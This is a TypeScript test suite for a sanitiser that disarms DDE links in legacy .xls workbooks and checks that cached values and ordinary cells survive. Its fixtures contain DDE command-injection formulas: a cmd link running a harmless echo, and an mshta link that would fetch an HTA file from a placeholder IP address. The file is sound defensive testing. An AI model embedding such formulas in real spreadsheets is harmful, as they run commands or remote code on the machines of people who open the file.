/**
 * DDE links in a legacy .xls (`=cmd|'/c …'!A0`: SUPBOOK `cmd` U+0003 `/c …`, EXTERNNAME `A0`, a
 * FORMULA cell with PtgNameX) through the whole disarm path (`disarmInput`: disarm, then re-scan with
 * every engine): DDE cells become constants with their cached value, shared formulas using the link
 * go with them, the SUPBOOK/EXTERNNAME records become an inert add-in name, everything else stays.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { disarmWorkbookStream } from '../../src/engines/disarm/ole-xls.js';
import {
  DISARMED_EXTERN_NAME,
  MAX_DDE_CELLS_REPORTED,
} from '../../src/engines/disarm/ole-xls-dde.js';
import type { Removal } from '../../src/engines/disarm/types.js';
import { parseWorkbook, type BiffCell } from '../../src/formats/biff/index.js';
import { parseCfb } from '../../src/formats/cfb/index.js';
import { disarmInput, scanInput } from '../../src/pipeline/index.js';
import {
  buildWorkbookStream,
  buildXls,
  ptgExp,
  ptgNameX,
  record,
  sharedFormulaRecord,
  type BiffWorkbookSpec,
} from '../builders/biff.js';

const DDE = "cmd|'/c echo emoguard-test'!A0";
const LINK = { application: 'cmd', topic: '/c echo emoguard-test', item: 'A0' };

const spec = (): BiffWorkbookSpec => ({
  sheets: [
    {
      name: 'Sheet1',
      cells: [
        { ref: 'A1', value: 'keep me' },
        { ref: 'B1', value: 42 },
        { ref: 'C1', rgce: ptgNameX(2), value: 7 },
        { ref: 'C2', rgce: ptgNameX(2), value: 'cached text' },
        { ref: 'C3', rgce: ptgNameX(2), value: true },
        { ref: 'D1', formula: 'SUM(1,2)', value: 3 },
      ],
    },
    { name: 'Data', cells: [{ ref: 'A1', value: 'second sheet' }] },
  ],
  ddeLinks: [LINK],
});

function cells(bytes: Uint8Array): Map<string, BiffCell> {
  const cfb = parseCfb(bytes);
  const book = parseWorkbook(cfb.readStream('Workbook')!);
  const out = new Map<string, BiffCell>();
  for (const sheet of book.sheets) {
    for (const cell of sheet.cells) out.set(`${sheet.name}!${cell.row},${cell.col}`, cell);
  }
  assert.deepEqual(book.ddeLinks, [], 'no DDE link left in the workbook');
  return out;
}

async function disarmed(bytes: Uint8Array) {
  const before = await scanInput({ path: 'in.xls', bytes });
  assert.equal(before.verdict, 'malicious', 'the original is malicious');
  const report = await disarmInput({ path: 'in.xls', bytes });
  assert.equal(report.status, 'disarmed', `${report.refusal}: ${report.reason}`);
  assert.equal(report.rescan?.verdict, 'clean', 'the copy re-scans clean');
  assert.ok(
    report.removed.every((r) => r.kind === 'dde-field'),
    JSON.stringify(report.removed),
  );
  return { report, cells: cells(report.output!) };
}

describe('disarm: DDE links in .xls', () => {
  test('DDE formula cells become their cached number, text or boolean; other cells are intact', async () => {
    const { report, cells: out } = await disarmed(buildXls(spec()));
    assert.deepEqual(
      ['0,2', '1,2', '2,2'].map((at) => out.get(`Sheet1!${at}`)),
      [
        { row: 0, col: 2, value: 7 },
        { row: 1, col: 2, value: 'cached text' },
        { row: 2, col: 2, value: true },
      ],
    );
    assert.equal(out.get('Sheet1!0,0')?.value, 'keep me', 'label kept');
    assert.equal(out.get('Sheet1!0,1')?.value, 42, 'number kept');
    assert.equal(out.get('Sheet1!0,3')?.formula, 'SUM(1,2)', 'ordinary formula kept');
    assert.equal(out.get('Data!0,0')?.value, 'second sheet', 'second sheet kept (offset moved)');
    const details = report.removed.map((r) => `${r.location}: ${r.detail}`);
    assert.deepEqual(details, [
      `Workbook SUPBOOK iSupBook=1: ${DDE} → add-in name ${DISARMED_EXTERN_NAME}`,
      `Workbook sheet Sheet1!C1: =${DDE}`,
      `Workbook sheet Sheet1!C2: =${DDE}`,
      `Workbook sheet Sheet1!C3: =${DDE}`,
    ]);
  });

  test('a shared formula using the link goes, and every cell of its range becomes a constant', async () => {
    const bytes = buildXls({
      sheets: [
        {
          name: 'Sheet1',
          cells: [
            { ref: 'A2', rgce: ptgExp('A2'), value: 1 },
            { ref: 'A3', rgce: ptgExp('A2'), value: 2 },
            { ref: 'B2', value: 'neighbour' },
          ],
          extraRecords: [sharedFormulaRecord('A2', 'A3', ptgNameX(1))],
        },
      ],
      ddeLinks: [LINK],
    });
    const { report, cells: out } = await disarmed(bytes);
    assert.equal(out.get('Sheet1!1,0')?.value, 1, 'A2 cached value');
    assert.equal(out.get('Sheet1!2,0')?.value, 2, 'A3 cached value');
    assert.equal(out.get('Sheet1!1,0')?.formula, undefined, 'A2 has no formula');
    assert.equal(out.get('Sheet1!1,1')?.value, 'neighbour', 'B2 kept');
    assert.deepEqual(
      report.removed.map((r) => r.location).slice(1),
      ['Workbook sheet Sheet1!A2', 'Workbook sheet Sheet1!A3'],
      'both cells are reported',
    );
  });

  test('a DDE SUPBOOK without EXTERNNAME and an OLE link are neutralised too', () => {
    const stream = buildWorkbookStream({
      sheets: [{ name: 'Sheet1', cells: [{ ref: 'A1', value: 1 }] }],
      ddeLinks: [
        { application: 'mshta', topic: 'http://192.0.2.7/x.hta' },
        { application: 'Excel.Sheet', topic: 'C:\\x.xls', item: 'R1C1', isOle: true },
      ],
    });
    const removed: Removal[] = [];
    const result = disarmWorkbookStream(stream, removed);
    assert.ok('stream' in result && result.stream, 'the stream is rewritten');
    assert.deepEqual(parseWorkbook(result.stream).ddeLinks, [], 'no link left');
    assert.deepEqual(
      removed.map((r) => r.detail),
      [
        `mshta|'http://192.0.2.7/x.hta' → add-in name ${DISARMED_EXTERN_NAME}`,
        `Excel.Sheet|'C:\\x.xls'!R1C1 → add-in name ${DISARMED_EXTERN_NAME}`,
      ],
    );
  });

  test('a workbook without DDE links is left unchanged', () => {
    const stream = buildWorkbookStream({
      sheets: [{ name: 'S', cells: [{ ref: 'A1', value: 1 }] }],
    });
    assert.deepEqual(disarmWorkbookStream(stream, []), { stream: undefined });
  });

  test('truncated SUPBOOK, EXTERNNAME, FORMULA and SHRFMLA records are skipped, never thrown on', () => {
    const stream = buildWorkbookStream({
      sheets: [
        {
          name: 'Sheet1',
          cells: [{ ref: 'A1', rgce: ptgNameX(1), value: 1 }],
          extraRecords: [
            record(0x0006, [0, 0, 1]),
            record(0x04bc, [0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff]),
            record(0x0006, [...new Array<number>(20).fill(0), 0xff, 0x7f, 0x59, 1]),
          ],
        },
      ],
      ddeLinks: [LINK],
      extraGlobals: [record(0x01ae, [0, 0]), record(0x0023, [1]), record(0x0017, [9, 0])],
    });
    const removed: Removal[] = [];
    const result = disarmWorkbookStream(stream, removed);
    assert.ok('stream' in result && result.stream, 'rewritten');
    assert.deepEqual(parseWorkbook(result.stream).ddeLinks, [], 'no link left');
    assert.ok(
      removed.some((r) => r.location === 'Workbook sheet Sheet1!A1'),
      JSON.stringify(removed),
    );
  });

  for (const count of [MAX_DDE_CELLS_REPORTED, MAX_DDE_CELLS_REPORTED + 1]) {
    test(`${count} DDE cells: at most ${MAX_DDE_CELLS_REPORTED} listed, the rest counted`, () => {
      const stream = buildWorkbookStream({
        sheets: [
          {
            name: 'Sheet1',
            cells: Array.from({ length: count }, (_, i) => ({
              ref: `A${i + 1}`,
              rgce: ptgNameX(1),
              value: i,
            })),
          },
        ],
        ddeLinks: [LINK],
      });
      const removed: Removal[] = [];
      const result = disarmWorkbookStream(stream, removed);
      assert.ok('stream' in result && result.stream, 'rewritten');
      const book = parseWorkbook(result.stream);
      assert.equal(book.sheets[0]?.cells.length, count, 'every cell kept');
      assert.ok(
        book.sheets[0]!.cells.every((c) => c.formula === undefined),
        'no formula left',
      );
      const cellsListed = removed.filter((r) => r.location.includes('!')).length;
      assert.equal(cellsListed, MAX_DDE_CELLS_REPORTED, 'listed cells');
      const summary = removed.find((r) => r.location === 'Workbook');
      assert.equal(
        summary?.detail,
        count > MAX_DDE_CELLS_REPORTED ? '1 more DDE formula cells made constants' : undefined,
        'summary only past the limit',
      );
    });
  }
});
